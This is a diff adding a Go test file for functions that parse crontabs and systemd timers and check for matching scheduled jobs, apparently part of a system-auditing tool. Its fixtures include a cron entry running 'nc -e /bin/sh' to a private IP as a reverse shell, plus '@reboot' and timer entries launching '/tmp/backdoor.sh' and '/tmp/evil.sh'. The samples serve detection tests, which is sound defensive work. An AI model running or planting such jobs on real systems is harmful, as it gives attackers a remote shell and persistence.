@@ -0,0 +1,129 @@
+package main
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestParseCrontab(t *testing.T) {
+	jobs := parseCrontab([]byte(""), "", "")
+	if len(jobs) != 0 {
+		t.Fatal("Parsed jobs out of empty string")
+	}
+
+	// system crontab
+	bs := []byte("SHELL=/bin/sh\n# comment\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot bob /tmp/backdoor.sh\nbad line\n")
+	jobs = parseCrontab(bs, "", "/etc/crontab")
+	if len(jobs) != 2 {
+		t.Fatal("Unexpected job count", jobs)
+	}
+	if jobs[0].User != "root" || jobs[0].Schedule != "17 * * * *" || jobs[0].Command != "cd / && run-parts --report /etc/cron.hourly" {
+		t.Fatal("Unexpected job", jobs[0])
+	}
+	if jobs[1].User != "bob" || jobs[1].Schedule != "@reboot" || jobs[1].Command != "/tmp/backdoor.sh" {
+		t.Fatal("Unexpected job", jobs[1])
+	}
+	if jobs[1].Source != "/etc/crontab" {
+		t.Fatal("Unexpected source", jobs[1])
+	}
+
+	// user crontab
+	bs = []byte("MAILTO=\"\"\n*/5 * * * * nc -e /bin/sh 10.0.0.1 4444\n")
+	jobs = parseCrontab(bs, "alice", "")
+	if len(jobs) != 1 {
+		t.Fatal("Unexpected job count", jobs)
+	}
+	if jobs[0].User != "alice" || jobs[0].Schedule != "*/5 * * * *" || jobs[0].Command != "nc -e /bin/sh 10.0.0.1 4444" {
+		t.Fatal("Unexpected job", jobs[0])
+	}
+}
+
+func TestParseSystemdTimer(t *testing.T) {
+	job := parseSystemdTimer([]byte("[Timer]\nOnCalendar=daily\nPersistent=true\n"), "backup.timer")
+	if job.Schedule != "OnCalendar=daily" || job.Command != "backup.service" {
+		t.Fatal("Unexpected job", job)
+	}
+	job = parseSystemdTimer([]byte("[Timer]\nOnBootSec=5min\nOnUnitActiveSec=1h\nUnit=other.service\n"), "backup.timer")
+	if job.Schedule != "OnBootSec=5min;OnUnitActiveSec=1h" || job.Command != "other.service" {
+		t.Fatal("Unexpected job", job)
+	}
+}
+
+func TestParseSystemdExecStart(t *testing.T) {
+	command := parseSystemdExecStart([]byte("[Unit]\nExecStart=/bin/false\n[Service]\nExecStart=-/usr/bin/backup --all\nExecStartPre=/bin/true\n"))
+	if command != "/usr/bin/backup --all" {
+		t.Fatal("Unexpected command", command)
+	}
+	command = parseSystemdExecStart([]byte("[Service]\nExecStart=/bin/a\nExecStart=\nExecStart=/bin/b\n"))
+	if command != "/bin/b" {
+		t.Fatal("Unexpected command", command)
+	}
+}
+
+func TestCheckScheduledJob(t *testing.T) {
+	dir, err := ioutil.TempDir("", "scheduled_job")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+
+	defer func(systemFiles []string, systemDirs []string, userDirs []string, periodicDirs map[string]string, unitDirs []string, configDirs []string) {
+		cronSystemFiles = systemFiles
+		cronSystemDirs = systemDirs
+		cronUserDirs = userDirs
+		cronPeriodicDirs = periodicDirs
+		systemdUnitDirs = unitDirs
+		systemdConfigDirs = configDirs
+	}(cronSystemFiles, cronSystemDirs, cronUserDirs, cronPeriodicDirs, systemdUnitDirs, systemdConfigDirs)
+	cronSystemFiles = []string{filepath.Join(dir, "crontab")}
+	cronSystemDirs = []string{filepath.Join(dir, "cron.d")}
+	cronUserDirs = []string{filepath.Join(dir, "crontabs")}
+	cronPeriodicDirs = map[string]string{"@daily": filepath.Join(dir, "cron.daily")}
+	systemdUnitDirs = []string{filepath.Join(dir, "systemd")}
+	systemdConfigDirs = []string{filepath.Join(dir, "systemd")}
+
+	for _, d := range []string{"cron.d", "crontabs", "cron.daily", "systemd/timers.target.wants"} {
+		os.MkdirAll(filepath.Join(dir, d), 0755)
+	}
+	ioutil.WriteFile(filepath.Join(dir, "crontab"), []byte("0 * * * * root /usr/bin/true\n"), 0644)
+	ioutil.WriteFile(filepath.Join(dir, "cron.d", "evil"), []byte("* * * * * root /tmp/evil.sh\n"), 0644)
+	ioutil.WriteFile(filepath.Join(dir, "cron.d", "evil~"), []byte("* * * * * root /tmp/ignored.sh\n"), 0644)
+	ioutil.WriteFile(filepath.Join(dir, "crontabs", "bob"), []byte("@reboot /tmp/evil.sh\n"), 0644)
+	ioutil.WriteFile(filepath.Join(dir, "cron.daily", "logrotate"), []byte("#!/bin/sh\n"), 0755)
+	ioutil.WriteFile(filepath.Join(dir, "systemd", "evil.timer"), []byte("[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n"), 0644)
+	ioutil.WriteFile(filepath.Join(dir, "systemd", "evil.service"), []byte("[Service]\nUser=bob\nExecStart=/tmp/evil.sh --timer\n"), 0644)
+	ioutil.WriteFile(filepath.Join(dir, "systemd", "off.timer"), []byte("[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n"), 0644)
+	ioutil.WriteFile(filepath.Join(dir, "systemd", "off.service"), []byte("[Service]\nExecStart=/tmp/evil.sh --off\n"), 0644)
+	os.Symlink(filepath.Join(dir, "systemd", "evil.timer"), filepath.Join(dir, "systemd", "timers.target.wants", "evil.timer"))
+
+	if checkScheduledJob([]string{}) != "invalid arguments" {
+		t.Fatal("Expected invalid arguments")
+	}
+	if checkScheduledJob([]string{"("}) != "invalid regex" {
+		t.Fatal("Expected invalid regex")
+	}
+	if checkScheduledJob([]string{"evil", "", "", "bad"}) != "invalid output" {
+		t.Fatal("Expected invalid output")
+	}
+
+	tests := []struct {
+		args     []string
+		expected string
+	}{
+		{[]string{"evil"}, "true"},
+		{[]string{"evil", "", "", "count"}, "3"},
+		{[]string{"evil", "bob", "", "count"}, "2"},
+		{[]string{"evil", "", "OnCalendar", "count"}, "1"},
+		{[]string{"ignored"}, "false"},
+		{[]string{"logrotate", "root", "@daily"}, "true"},
+		{[]string{"--off"}, "false"},
+	}
+	for _, test := range tests {
+		result := checkScheduledJob(test.args)
+		if result != test.expected {
+			t.Fatal("Unexpected result for", test.args, result)
+		}
+	}
+}